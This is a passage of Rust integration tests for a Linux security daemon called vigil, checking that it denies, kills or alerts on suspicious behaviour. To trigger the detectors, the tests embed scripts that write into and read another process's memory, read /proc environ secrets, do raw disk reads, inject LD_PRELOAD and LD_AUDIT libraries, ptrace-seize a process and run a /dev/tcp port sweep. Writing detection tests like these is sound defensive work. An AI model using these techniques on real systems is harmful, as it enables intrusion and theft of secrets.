    let policy_dir = dir.join("policy.d");
    fs::create_dir_all(&policy_dir).unwrap();
    fs::write(
        policy_dir.join("50-test.toml"),
        format!(
            "[[rule.connect]]\nname = \"test-deny-net\"\naction = \"deny\"\naddr = [\"127.0.0.2/32\", \"::1\"]\nports = [{port}]\n"
        ),
    )
    .unwrap();
    let daemon = Daemon::start("netdeny", &["--policy-dir", policy_dir.to_str().unwrap()]);
    let try_connect = |addr: &str| std::net::TcpStream::connect(addr).map(drop).map_err(|e| e.raw_os_error());
    let eperm = Err(Some(libc::EPERM));
    assert_eq!(try_connect(&format!("127.0.0.1:{port}")), Ok(()), "an address not on the list was refused");
    assert_eq!(try_connect(&format!("127.0.0.2:{port}")), eperm, "IPv4 deny");
    assert_eq!(try_connect(&format!("[::1]:{port}")), eperm, "IPv6 deny");
    assert_eq!(try_connect(&format!("[::ffff:127.0.0.2]:{port}")), eperm, "IPv4-mapped IPv6 deny");
    assert_eq!(try_connect(&format!("127.0.0.2:{}", port ^ 1)), Err(Some(libc::ECONNREFUSED)), "another port was refused by the rule");

    let deadline = Instant::now() + Duration::from_secs(5);
    while daemon.status()["response"]["kernel_net_denied_rule"].as_u64().unwrap_or(0) < 3 {
        assert!(Instant::now() < deadline, "status: {}", daemon.status()["response"]);
        std::thread::sleep(Duration::from_millis(200));
    }
    let me = std::process::id().to_string();
    let alerts = entries(&cursor, "the deny alert", |e| {
        f(e, "VIGIL_EVENT") == "alert" && f(e, "VIGIL_REASON") == "test-deny-net" && f(e, "VIGIL_PID") == me
    });
    if let Some(a) = alerts.first() {
        assert!(f(a, "VIGIL_ACTION_OUTCOME").contains("denied in the kernel"), "{a}");
    }
    drop(daemon);
}

/// `sleep` with bytes of our own appended: an image no other process on the host runs.
fn marked_sleep(tag: &str) -> Vec<u8> {
    let mut bytes = fs::read("/usr/bin/sleep").expect("read sleep");
    bytes.extend_from_slice(format!("vigil-test-{}-{tag}", std::process::id()).as_bytes());
    bytes
}

/// Hex SHA-256 of `bytes`, from the system's sha256sum rather than vigil's own code.
fn sha256sum(dir: &Path, bytes: &[u8]) -> String {
    let f = dir.join("sha256sum-input");
    fs::write(&f, bytes).unwrap();
    let out = Command::new("sha256sum").arg(&f).output().expect("sha256sum");
    let sha = String::from_utf8_lossy(&out.stdout).split_whitespace().next().expect("digest").to_owned();
    assert_eq!(sha.len(), 64, "{sha}");
    sha
}

/// A policy directory whose one rule kills images with digest `sha`.
/// Writes `bytes` as the executable `dir/bin/name`.
fn install_image(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let bin = dir.join("bin").join(name);
    fs::create_dir_all(dir.join("bin")).unwrap();
    fs::write(&bin, bytes).expect("write image");
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

/// Runs `path 30` and expects SIGKILL within 10 s; `what` names the run in the failure.
fn assert_exec_killed(path: &Path, what: &str) {
    let mut victim = Command::new(path).arg("30").spawn().expect("spawn");
    let Some(status) = wait_exit(&mut victim, Duration::from_secs(10)) else {
        let _ = victim.kill();
        panic!("{what}: the image survived");
    };
    assert_eq!(status.signal(), Some(libc::SIGKILL), "{what}");
}

fn sha256_kill_policy(dir: &Path, rule: &str, sha: &str) -> PathBuf {
    let policy_dir = dir.join("policy.d");
    fs::create_dir_all(&policy_dir).unwrap();
    let text = format!("[[rule.exec]]\nname = \"{rule}\"\naction = \"kill\"\nsha256 = [\"{sha}\"]\n");
    fs::write(policy_dir.join("50-test.toml"), text).unwrap();
    policy_dir
}

#[test]
fn a_sha256_kill_rule_kills_the_first_and_the_cached_exec_of_an_image() {
    let test = "a_sha256_kill_rule_kills_the_first_and_the_cached_exec_of_an_image";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let dir = scratch("sha256");
    let bytes = marked_sleep("sha256");
    let bin = install_image(&dir, "marked-sleep", &bytes);
    let policy_dir = sha256_kill_policy(&dir, "test-kill-sha", &sha256sum(&dir, &bytes));
    let daemon = Daemon::start("sha256", &["--policy-dir", policy_dir.to_str().unwrap()]);
    // The first exec is hashed on the hasher thread; the second, by the same path, is known
    // from the kernel's identity of the image (no /proc lookup); the third, through a symlink,
    // opens the image and finds its digest cached by file identity. All must end in a kill.
    let link = dir.join("bin").join("another-name");
    std::os::unix::fs::symlink(&bin, &link).expect("symlink");
    let before = daemon.status();
    let images = |s: &Value, k: &str| s["process_table"][k].as_u64().expect("image counters");
    for (run, path) in [("first (hashed)", &bin), ("same path (known)", &bin), ("symlink (cached)", &link)] {
        assert_exec_killed(path, &format!("{run} exec of a sha256-denied image"));
    }
    // Other processes exec too: these bound ours from below. The stage publishes its
    // counters periodically, so wait for them.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let after = loop {
        let s = daemon.status();
        if images(&s, "images_known") > images(&before, "images_known") || std::time::Instant::now() > deadline {
            break s;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(images(&after, "images_known") > images(&before, "images_known"), "no exec was known without /proc");
    assert!(images(&after, "images_opened") >= images(&before, "images_opened") + 2, "first and symlink execs open the image");
    drop(daemon);
}

#[test]
fn an_image_rewritten_in_place_with_its_mtime_put_back_is_hashed_again() {
    let test = "an_image_rewritten_in_place_with_its_mtime_put_back_is_hashed_again";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let dir = scratch("rewrite");
    let (benign, denied) = (marked_sleep("old"), marked_sleep("new"));
    assert_eq!(benign.len(), denied.len());
    let bin = install_image(&dir, "rewritten-sleep", &benign);
    let policy_dir = sha256_kill_policy(&dir, "test-rewrite", &sha256sum(&dir, &denied));
    let daemon = Daemon::start("rewrite", &["--policy-dir", policy_dir.to_str().unwrap()]);
    // The benign contents run (and are hashed and remembered) twice: the second exec is the
    // one answered from memory, so the memory is there to be fooled.
    for _ in 0..2 {
        let status = Command::new(&bin).arg("0.2").status().expect("run benign");
        assert!(status.success(), "the benign image was acted on: {status:?}");
    }
    // Same inode, same size, mtime put back: only ctime tells the new contents apart.
    let mtime = fs::metadata(&bin).unwrap().modified().unwrap();
    fs::write(&bin, &denied).expect("rewrite in place");
    fs::File::options().write(true).open(&bin).unwrap().set_modified(mtime).expect("restore mtime");
    assert_exec_killed(&bin, "the rewritten image, same size and mtime as its benign contents");
    drop(daemon);
}

/// The shipped default's event rules: a process that seizes another with ptrace and one that
/// tries to load a kernel module are each alerted on, with what they did in `VIGIL_DETAIL`.
#[test]
fn a_ptrace_attach_and_a_module_load_attempt_are_alerted_with_what_happened() {
    let test = "a_ptrace_attach_and_a_module_load_attempt_are_alerted_with_what_happened";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("events", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let target = Reap(Command::new("sleep").arg("60").spawn().expect("sleep"));
    let target_pid = target.0.id();
    // PTRACE_SEIZE of the target (released when the tracer exits), then init_module (175) of
    // 64 zero bytes, which the kernel refuses: not a module, and lockdown wants a signature.
    let script = format!(
        "import ctypes\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         seize = libc.syscall(101, 0x4206, {target_pid}, 0, 0)\n\
         buf = ctypes.create_string_buffer(64)\n\
         load = libc.syscall(175, buf, ctypes.c_ulong(64), b'')\n\
         print(seize, load)\n"
    );
    let tracer = Command::new("python3")
        .args(["-c", &script])
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    let tracer_pid = tracer.id();
    let out = tracer.wait_with_output().expect("python3");
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "python3: {printed}");
    assert!(printed.starts_with("0 -1"), "seize succeeds and the load fails: {printed}");

    wait_for_alerts(&daemon, alerts_before + 2);
    let tracer = tracer_pid.to_string();
    let ptrace = entries(&cursor, "the ptrace-attach alert", |e| {
        f(e, "VIGIL_REASON") == "ptrace-attach" && f(e, "VIGIL_PID") == tracer
    });
    if let Some(a) = ptrace.first() {
        assert_eq!(f(a, "VIGIL_EVENT"), "alert", "{a}");
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!("ptrace PTRACE_SEIZE of pid {target_pid} (result 0)"),
            "{a}"
        );
        assert!(f(a, "MESSAGE").contains("PTRACE_SEIZE"), "{a}");
    }
    let module = entries(&cursor, "the kernel-module-load alert", |e| {
        f(e, "VIGIL_REASON") == "kernel-module-load" && f(e, "VIGIL_PID") == tracer
    });
    if let Some(a) = module.first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(detail.starts_with("init_module of 64 bytes (result -"), "{a}");
    }
    drop(target);
    drop(daemon);
}

/// Runs a Python `script` that reaches into itself, then into a child it starts, and prints
/// the two results (8 each: bytes, or a found marker) and the child's pid; with
/// `VIGIL_TEST_SECRET` in its environment. Returns its pid and the child's.
fn reach_a_child(script: &str) -> (String, String) {
    let python = Command::new("python3")
        .args(["-c", script])
        .env("VIGIL_TEST_SECRET", "s3cret")
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    let pid = python.id().to_string();
    let out = python.wait_with_output().expect("python3");
    let printed = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "python3: {printed}");
    let fields: Vec<String> = printed.split_whitespace().map(str::to_owned).collect();
    assert_eq!(fields[..2], ["8", "8"], "both reach their memory: {printed}");
    (pid, fields[2].clone())
}

/// The shipped default's `process-memory-write`: a process that writes into a child's stack with
/// process_vm_writev, and one that opens another child's `/proc/PID/mem` for writing, are each
/// alerted, naming the target; their writes into their own memory, made first, are not what
/// the alerts are about. Both are `memory_write` records.
#[test]
fn writes_into_another_process_are_alerted() {
    let test = "writes_into_another_process_are_alerted";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("memory-write", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    // Each writes into itself, then into a `sleep` it starts; prints the two results and the
    // sleep's pid.
    let vm_writev = "import ctypes, os, subprocess, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         class Iov(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n\
         def write(pid, addr):\n\
         \x20   data = ctypes.create_string_buffer(8)\n\
         \x20   local, remote = Iov(ctypes.addressof(data), 8), Iov(addr, 8)\n\
         \x20   return libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n\
         own = ctypes.create_string_buffer(8)\n\
         mine = write(os.getpid(), ctypes.addressof(own))\n\
         victim = subprocess.Popen(['sleep', '30']); time.sleep(0.2)\n\
         stack = [l for l in open(f'/proc/{victim.pid}/maps') if l.endswith('[stack]\\n')][0]\n\
         theirs = write(victim.pid, int(stack.split('-')[0], 16))\n\
         victim.kill(); victim.wait()\n\
         print(mine, theirs, victim.pid)\n";
    let proc_mem = "import os, subprocess, time\n\
         def write(pid):\n\
         \x20   stack = [l for l in open(f'/proc/{pid}/maps') if l.endswith('[stack]\\n')][0]\n\
         \x20   with open(f'/proc/{pid}/mem', 'r+b', buffering=0) as m:\n\
         \x20       m.seek(int(stack.split('-')[0], 16)); return m.write(bytes(8))\n\
         mine = write(os.getpid())\n\
         victim = subprocess.Popen(['sleep', '30']); time.sleep(0.2)\n\
         theirs = write(victim.pid)\n\
         victim.kill(); victim.wait()\n\
         print(mine, theirs, victim.pid)\n";
    let (vm_writer, vm_victim) = reach_a_child(vm_writev);
    let (mem_writer, mem_victim) = reach_a_child(proc_mem);

    wait_for_alerts(&daemon, alerts_before + 2);
    let (_, events) = daemon.stop();
    for (writer, victim, request) in [(&vm_writer, &vm_victim, 0), (&mem_writer, &mem_victim, 1)] {
        assert!(
            events.iter().any(|e| e["type"] == "memory_write"
                && e["request"].as_i64() == Some(request)
                && e["pid"].as_u64().map(|p| p.to_string()).as_ref() == Some(writer)
                && e["target_pid"].as_u64().map(|p| p.to_string()).as_ref() == Some(victim)),
            "no memory_write record ({request}) of the write into {victim}"
        );
    }
    let alert = |writer: &str| {
        entries(&cursor, "the process-memory-write alert", |e| {
            f(e, "VIGIL_REASON") == "process-memory-write" && f(e, "VIGIL_PID") == writer
        })
    };
    if let Some(a) = alert(&vm_writer).first() {
        assert_eq!(f(a, "VIGIL_DETAIL"), format!("process_vm_writev into pid {vm_victim} (/usr/bin/sleep) (result 8)"), "{a}");
    }
    if let Some(a) = alert(&mem_writer).first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(detail.starts_with(&format!("open of /proc/{mem_victim}/mem (/usr/bin/sleep) for writing (fd ")), "{a}");
    }
}

/// The shipped default's `process-memory-read` and `environ-read`: a process that reads a
/// child's stack with process_vm_readv, one that reads it through the child's `/proc/PID/mem`
/// opened read-only, and one that reads the child's `/proc/PID/environ` are each alerted,
/// naming the target; their reads of their own memory and environment, made first, are not
/// what the alerts are about (the kernel does not even report them). All are `memory_read`
/// records.
#[test]
fn reads_of_another_process_are_alerted() {
    let test = "reads_of_another_process_are_alerted";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("memory-read", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    // Each reads itself, then a `sleep` it starts; prints the two results and the sleep's pid.
    let vm_readv = "import ctypes, os, subprocess, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         class Iov(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n\
         def read(pid, addr):\n\
         \x20   data = ctypes.create_string_buffer(8)\n\
         \x20   local, remote = Iov(ctypes.addressof(data), 8), Iov(addr, 8)\n\
         \x20   return libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n\
         own = ctypes.create_string_buffer(8)\n\
         mine = read(os.getpid(), ctypes.addressof(own))\n\
         victim = subprocess.Popen(['sleep', '30']); time.sleep(0.2)\n\
         stack = [l for l in open(f'/proc/{victim.pid}/maps') if l.endswith('[stack]\\n')][0]\n\
         theirs = read(victim.pid, int(stack.split('-')[0], 16))\n\
         victim.kill(); victim.wait()\n\
         print(mine, theirs, victim.pid)\n";
    let proc_mem = "import os, subprocess, time\n\
         def read(pid):\n\
         \x20   stack = [l for l in open(f'/proc/{pid}/maps') if l.endswith('[stack]\\n')][0]\n\
         \x20   with open(f'/proc/{pid}/mem', 'rb', buffering=0) as m:\n\
         \x20       m.seek(int(stack.split('-')[0], 16)); return len(m.read(8))\n\
         mine = read(os.getpid())\n\
         victim = subprocess.Popen(['sleep', '30']); time.sleep(0.2)\n\
         theirs = read(victim.pid)\n\
         victim.kill(); victim.wait()\n\
         print(mine, theirs, victim.pid)\n";
    let environ = "import os, subprocess, time\n\
         def read(pid):\n\
         \x20   with open(f'/proc/{pid}/environ', 'rb') as e:\n\
         \x20       return 8 if b'VIGIL_TEST_SECRET=' in e.read() else 0\n\
         mine = read(os.getpid())\n\
         victim = subprocess.Popen(['sleep', '30']); time.sleep(0.2)\n\
         theirs = read(victim.pid)\n\
         victim.kill(); victim.wait()\n\
         print(mine, theirs, victim.pid)\n";
    let readers = [reach_a_child(vm_readv), reach_a_child(proc_mem), reach_a_child(environ)];

    wait_for_alerts(&daemon, alerts_before + 3);
    let (_, events) = daemon.stop();
    for ((reader, victim), request) in readers.iter().zip(0..) {
        let reads: Vec<&serde_json::Value> = events
            .iter()
            .filter(|e| {
                e["type"] == "memory_read"
                    && e["pid"].as_u64().map(|p| p.to_string()).as_ref() == Some(reader)
            })
            .collect();
        assert!(
            reads.iter().any(|e| e["request"].as_i64() == Some(request)
                && e["target_pid"].as_u64().map(|p| p.to_string()).as_ref() == Some(victim)),
            "no memory_read record ({request}) of the read of {victim}: {reads:?}"
        );
        assert!(
            reads.iter().all(|e| e["target_pid"].as_u64().map(|p| p.to_string()).as_ref() != Some(reader)),
            "the read of itself was reported: {reads:?}"
        );
    }
    let alert = |rule: &str, reader: &str| {
        entries(&cursor, &format!("the {rule} alert of {reader}"), |e| {
            f(e, "VIGIL_REASON") == rule && f(e, "VIGIL_PID") == reader
        })
    };
    if cursor.is_none() {
        return;
    }
    // The first of each: another vigil on the host may have journaled the same.
    let [(vm_reader, vm_victim), (mem_reader, mem_victim), (env_reader, env_victim)] = &readers;
    let a = alert("process-memory-read", vm_reader);
    assert_eq!(f(&a[0], "VIGIL_DETAIL"), format!("process_vm_readv of pid {vm_victim} (/usr/bin/sleep) (result 8)"));
    let a = alert("process-memory-read", mem_reader);
    let detail = f(&a[0], "VIGIL_DETAIL");
    assert!(detail.starts_with(&format!("open of /proc/{mem_victim}/mem (/usr/bin/sleep) for reading (fd ")), "{detail}");
    let a = alert("environ-read", env_reader);
    let detail = f(&a[0], "VIGIL_DETAIL");
    assert!(detail.starts_with(&format!("open of /proc/{env_victim}/environ (/usr/bin/sleep) (fd ")), "{detail}");
}

/// Detaches a loop device when the test ends, passed or not.
struct LoopDevice(String);

impl Drop for LoopDevice {
    fn drop(&mut self) {
        let _ = Command::new("losetup").args(["-d", &self.0]).status();
    }
}

/// The shipped default's `raw-disk-access`: a disk read as a raw device, below every file
/// permission, is alerted whatever reads it (`dd`, a Python script); `blockdev`, a storage
/// tool, is not. These VMs refuse any open of their real disk (EPERM, and only opens that
/// succeed are seen), so a loop device over a scratch image stands in for it: a disk all the
/// same, and in the rule's globs. The device nodes are watched by inode, never `/dev` itself:
/// the host's writes to /dev/null send nothing.
#[test]
fn a_raw_disk_read_is_alerted_and_the_storage_tools_are_not() {
    let test = "a_raw_disk_read_is_alerted_and_the_storage_tools_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("raw-disk");
    let image = dir.join("disk.img");
    let mut data = b"vigil-raw-disk-marker".to_vec();
    data.resize(1 << 20, 0);
    fs::write(&image, data).expect("image");
    // Attached before the daemon starts, so that its device node exists when the watches are
    // resolved (losetup may make a new one).
    let out = Command::new("losetup").args(["-f", "--show"]).arg(&image).output().expect("losetup");
    if !out.status.success() {
        println!("{test}: skipped: no loop device: {}", String::from_utf8_lossy(&out.stderr).trim());
        return;
    }
    let device = LoopDevice(String::from_utf8_lossy(&out.stdout).trim().to_owned());
    let dev = device.0.clone();
    let daemon = Daemon::start("raw-disk", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let run = |program: &str, args: &[&str]| {
        let child = Command::new(program).args(args).stdout(Stdio::piped()).spawn().expect(program);
        let pid = child.id().to_string();
        let out = child.wait_with_output().expect(program);
        assert!(out.status.success(), "{program} {args:?}");
        (pid, String::from_utf8_lossy(&out.stdout).into_owned())
    };
    let (dd, _) = run("dd", &[&format!("if={dev}"), "of=/dev/null", "bs=512", "count=1", "status=none"]);
    let (python, read) = run("python3", &["-c", &format!("print(open('{dev}', 'rb').read(21).decode())")]);
    assert_eq!(read.trim(), "vigil-raw-disk-marker", "the python read of the device");
    let (blockdev, size) = run("blockdev", &["--getsize64", &dev]);
    assert_eq!(size.trim(), (1u32 << 20).to_string());
    run("sh", &["-c", "for i in 1 2 3 4 5 6 7 8 9 10; do echo x > /dev/null; done"]);

    wait_for_alerts(&daemon, alerts_before + 2);
    let (_, events) = daemon.stop();
    let opened_by = |pid: &str| {
        events
            .iter()
            .any(|e| e["type"] == "file_open" && e["pid"].as_u64().map(|p| p.to_string()).as_deref() == Some(pid))
    };
    for pid in [&dd, &python, &blockdev] {
        assert!(opened_by(pid), "no file_open record of {pid}'s open of {dev}");
    }
    let null_ino = {
        use std::os::unix::fs::MetadataExt;
        fs::metadata("/dev/null").expect("/dev/null").ino()
    };
    let nulls: Vec<&Value> = events.iter().filter(|e| e["type"] == "file_open" && e["ino"].as_u64() == Some(null_ino)).collect();
    assert!(nulls.is_empty(), "/dev/null's opens were sent: {nulls:?}");
    let Some(c) = &cursor else { return };
    for pid in [&dd, &python] {
        let found = entries(&cursor, &format!("the raw-disk-access alert of {pid}"), |e| {
            f(e, "VIGIL_REASON") == "raw-disk-access" && f(e, "VIGIL_PID") == *pid
        });
        let detail = f(&found[0], "VIGIL_DETAIL");
        assert!(detail.starts_with(&format!("open of {dev} for read")), "{detail}");
    }
    let quiet = read_vigil_entries(c, Duration::from_secs(1), |e| f(e, "VIGIL_PID") == blockdev);
    assert!(quiet.is_empty(), "blockdev was alerted: {quiet:?}");
}

/// The shipped default's `agent-tampered`: a file written into vigil's policy directory and
/// then removed are each alerted, naming the shell and `rm` that did it. On a host without
/// vigil installed the directory is made for the test before the daemon starts (and removed
/// after); the file is not a `.toml`, so an installed vigil would not load it.
#[test]
fn a_change_to_vigil_s_own_policy_directory_is_alerted() {
    let test = "a_change_to_vigil_s_own_policy_directory_is_alerted";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    // The directories this test made, removed (innermost first) when it ends.
    struct Made(Vec<PathBuf>);
    impl Drop for Made {
        fn drop(&mut self) {
            for d in self.0.iter().rev() {
                let _ = fs::remove_dir(d);
            }
        }
    }
    let mut made = Made(Vec::new());
    for d in ["/etc/vigil", "/etc/vigil/policy.d"] {
        if !Path::new(d).exists() {
            fs::create_dir(d).expect(d);
            made.0.push(d.into());
        }
    }
    let file = "/etc/vigil/policy.d/vigil-test-tamper.txt";
    let daemon = Daemon::start("tamper", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let run = |program: &str, args: &[&str]| {
        let mut child = Command::new(program).args(args).spawn().expect(program);
        let pid = child.id().to_string();
        assert!(child.wait().expect(program).success(), "{program} {args:?}");
        pid
    };
    let writer = run("sh", &["-c", &format!("echo 'mode = \"monitor\"' > {file}")]);
    let remover = run("rm", &[file]);
    wait_for_alerts(&daemon, alerts_before + 2);
    drop(daemon);
    for (pid, what) in [(&writer, "open of /etc/vigil/policy.d/vigil-test-tamper.txt for write"), (&remover, "unlink of /etc/vigil/policy.d/vigil-test-tamper.txt")] {
        let found = entries(&cursor, &format!("the agent-tampered alert of {pid}"), |e| {
            f(e, "VIGIL_REASON") == "agent-tampered" && f(e, "VIGIL_PID") == *pid
        });
        if let Some(a) = found.first() {
            assert!(f(a, "VIGIL_DETAIL").starts_with(what), "{a}");
        }
    }
}

/// The shipped default's `preload-injection`: a library `cp` has just written, preloaded into
/// `/usr/bin/true` through `LD_PRELOAD`, is alerted at `true` with the variable's value and the
/// library's writer; so is one named by `LD_AUDIT`. Quiet, and not even sent: the same
/// variable naming a library installed long ago; a fresh library loaded without the variable
/// (`ctypes.CDLL`); a library a process wrote itself and then loaded, with the variable set.
#[test]
fn a_fresh_library_preloaded_into_a_program_is_alerted_and_installed_ones_are_not() {
    let test = "a_fresh_library_preloaded_into_a_program_is_alerted_and_installed_ones_are_not";
    if !require_root(test) {
        return;
    }
    let installed = "/usr/lib/x86_64-linux-gnu/libm.so.6";
    if !Path::new(installed).exists() {
        println!("{test}: skipped: no {installed} to copy");
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("preload");
    let fresh = dir.join("libfresh.so");
    let daemon = Daemon::start("preload", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let run_with = |program: &str, args: &[&str], var: &str, preload: Option<&str>| {
        let mut cmd = Command::new(program);
        cmd.args(args).stderr(Stdio::null());
        if let Some(p) = preload {
            cmd.env(var, p);
        }
        let mut child = cmd.spawn().expect(program);
        let pid = child.id().to_string();
        assert!(child.wait().expect(program).success(), "{program} {args:?}");
        pid
    };
    let run = |program: &str, args: &[&str], preload: Option<&str>| run_with(program, args, "LD_PRELOAD", preload);
    run("cp", &[installed, fresh.to_str().unwrap()], None);
    // An auditing library loads before any preload; one without `la_version` is mapped, then
    // refused with a warning, and the program runs on.
    let audit_lib = dir.join("libaudit.so");
    run("cp", &[installed, audit_lib.to_str().unwrap()], None);
    let audited = run_with("/usr/bin/true", &[], "LD_AUDIT", Some(audit_lib.to_str().unwrap()));
    let injected = run("/usr/bin/true", &[], Some(fresh.to_str().unwrap()));
    let long_installed = run("/usr/bin/true", &[], Some(installed));
    let without = run("python3", &["-c", &format!("import ctypes; ctypes.CDLL('{}')", fresh.display())], None);
    let own = run(
        "python3",
        &["-c", &format!("import ctypes, shutil; shutil.copy('{installed}', '{0}'); ctypes.CDLL('{0}')", dir.join("libown.so").display())],
        Some(installed),
    );

    wait_for_alerts(&daemon, alerts_before + 2);
    let (_, events) = daemon.stop();
    let preloads: Vec<&Value> = events.iter().filter(|e| e["type"] == "preload_library").collect();
    let of = |pid: &str| preloads.iter().filter(|e| e["pid"].as_u64().map(|p| p.to_string()).as_deref() == Some(pid)).count();
    let record = preloads
        .iter()
        .find(|e| e["pid"].as_u64().map(|p| p.to_string()).as_deref() == Some(injected.as_str()))
        .unwrap_or_else(|| panic!("no preload_library record of {injected}: {preloads:?}"));
    assert_eq!(record["library"], "libfresh.so", "{record}");
    assert_eq!(record["preload"], fresh.display().to_string(), "{record}");
    for (pid, what) in [(&long_installed, "an installed library"), (&without, "no LD_PRELOAD"), (&own, "its own library")] {
        assert_eq!(of(pid), 0, "{what} was reported: {preloads:?}");
    }
    let found = entries(&cursor, "the preload-injection alert", |e| {
        f(e, "VIGIL_REASON") == "preload-injection" && f(e, "VIGIL_PID") == injected
    });
    if let Some(a) = found.first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(
            detail.starts_with(&format!("maps libfresh.so as code with LD_PRELOAD={}; the library was written ", fresh.display()))
                && detail.contains(" s before by "),
            "{detail}"
        );
    }
    let found = entries(&cursor, "the LD_AUDIT alert", |e| {
        f(e, "VIGIL_REASON") == "preload-injection" && f(e, "VIGIL_PID") == audited
    });
    if let Some(a) = found.first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(detail.starts_with(&format!("maps libaudit.so as code with LD_AUDIT={};", audit_lib.display())), "{detail}");
    }
}

/// The shipped default's `deleted-program-running`: a program whose file is removed while it
/// runs is alerted, naming the file; one whose file is replaced in place (as a package upgrade
/// does), and one left alone, are not.
#[test]
fn a_program_running_from_a_deleted_file_is_alerted_and_an_upgraded_one_is_not() {
    let test = "a_program_running_from_a_deleted_file_is_alerted_and_an_upgraded_one_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("deleted");
    let daemon = Daemon::start("deleted", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let run = |name: &str| {
        let bin = copy_bin("/usr/bin/sleep", &dir, name);
        let child = Reap(Command::new(&bin).arg("60").spawn().expect("copy of sleep"));
        (bin, child)
    };
    let (removed, removed_child) = run("updater");
    let (upgraded, upgraded_child) = run("upgraded");
    let (_kept, kept_child) = run("kept");
    std::thread::sleep(Duration::from_millis(300));
    fs::remove_file(&removed).expect("remove");
    let next = copy_bin("/usr/bin/sleep", &dir, "upgraded.new");
    fs::rename(&next, &upgraded).expect("replace in place");

    wait_for_alerts(&daemon, alerts_before + 1);
    let pid = |c: &Reap| c.0.id().to_string();
    let found = entries(&cursor, "the deleted-program-running alert", |e| {
        f(e, "VIGIL_REASON") == "deleted-program-running" && f(e, "VIGIL_PID") == pid(&removed_child)
    });
    if let Some(a) = found.first() {
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!("runs {}, whose file was deleted with nothing put in its place", removed.display()),
            "{a}"
        );
    }
    // Two more sweeps (every 2 s) have looked at the other two.
    std::thread::sleep(Duration::from_secs(5));
    if let Some(c) = &cursor {
        let quiet = [pid(&upgraded_child), pid(&kept_child)];
        let others = incidents_on(c, "deleted-program-running", &quiet);
        assert!(others.is_empty(), "an upgraded or untouched program was alerted: {others:?}");
    }
    drop(daemon);
}

/// The shipped default's behaviour events: a shell sweeping closed ports of localhost with one
/// `/dev/tcp` subshell per port is a port scan (reported at the shell, the parent of every
/// connect), a process connecting to as many ports that all listen is not, an unprivileged
/// process asking setuid for root is refused and alerted on, and so are a program run as
/// `[kworker/0:9]`, a `chmod u+s` (a `chmod 755` is not) and a packet socket.
#[test]
fn behaviour_events_are_alerted_and_their_lookalikes_are_not() {
    let test = "behaviour_events_are_alerted_and_their_lookalikes_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("scan", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    // 40 listeners of its own, each connected to once: a test suite, not a scan.
    let client = Command::new("python3")
        .args([
            "-c",
            "import socket\n\
             ls = [socket.create_server(('127.0.0.1', 0)) for _ in range(40)]\n\
             cs = [socket.create_connection(l.getsockname()) for l in ls]\n\
             print(len(cs))\n",
        ])
        .output()
        .expect("python3");
    assert_eq!(String::from_utf8_lossy(&client.stdout).trim(), "40", "{client:?}");

    // Ports vigil's own listener proves free a moment ago are closed: 40 of them, one subshell
    // each, from a shell whose pid the alert must name.
    let ports: Vec<u16> = (0..40)
        .map(|_| TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr").port())
        .collect();
    let list = ports.iter().map(u16::to_string).collect::<Vec<_>>().join(" ");
    let sweep = Command::new("bash")
        .args(["-c", &format!("for p in {list}; do (echo >/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; echo $$")])
        .output()
        .expect("bash");
    let shell = String::from_utf8_lossy(&sweep.stdout).trim().to_owned();

    let nobody = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c"])
        .arg("import os\ntry:\n    os.setuid(0)\nexcept PermissionError:\n    print(os.getpid())\n")
        .output()
        .expect("setpriv");
    let asker = String::from_utf8_lossy(&nobody.stdout).trim().to_owned();
